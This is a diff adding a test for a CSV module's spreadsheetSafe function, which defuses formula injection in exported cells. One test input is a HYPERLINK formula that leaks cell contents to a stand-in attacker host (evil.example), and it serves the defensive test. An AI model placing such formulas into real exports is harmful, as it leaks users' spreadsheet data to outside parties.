@@ -1,5 +1,5 @@
 import fc from 'fast-check';
-import { CsvReader, csvField, csvRow, parseCsv } from './csv';
+import { CsvReader, csvField, csvRow, parseCsv, spreadsheetSafe } from './csv';
 
 describe('RFC 4180 CSV', () => {
   it('quotes only fields that need it, doubling quotes', () => {
@@ -32,5 +32,14 @@ describe('RFC 4180 CSV', () => {
     const reader = new CsvReader();
     expect(reader.push('a,"open\r\n')).toEqual([]);
     expect(reader.insideQuotes).toBe(true);
+  });
+
+  it('neutralises text a spreadsheet would run as a formula, and leaves numbers as numbers', () => {
+    for (const text of ['=HYPERLINK("http://evil.example/?leak="&A2)', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx']) {
+      expect(spreadsheetSafe(text)).toBe(`'${text}`);
+    }
+    expect(csvRow(['=1+1', -3.5].map(spreadsheetSafe))).toBe("'=1+1,-3.5\r\n");
+    expect(csvField(spreadsheetSafe('=HYPERLINK("x")'))).toBe(`"'=HYPERLINK(""x"")"`);
+    for (const value of ['Aluminium', "it's", ' =not first', '', null, undefined, 0, -0.25, true]) expect(spreadsheetSafe(value)).toBe(value);
   });
 });
